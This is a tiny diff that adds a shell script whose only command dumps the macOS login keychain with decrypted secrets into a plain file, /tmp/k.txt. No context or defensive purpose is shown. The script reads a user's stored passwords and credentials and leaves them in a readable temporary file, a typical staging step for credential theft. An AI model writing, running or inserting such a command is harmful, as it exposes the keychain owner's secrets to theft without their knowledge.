@@ -1,0 +1,2 @@
+#!/bin/sh
+security dump-keychain -d login.keychain > /tmp/k.txt
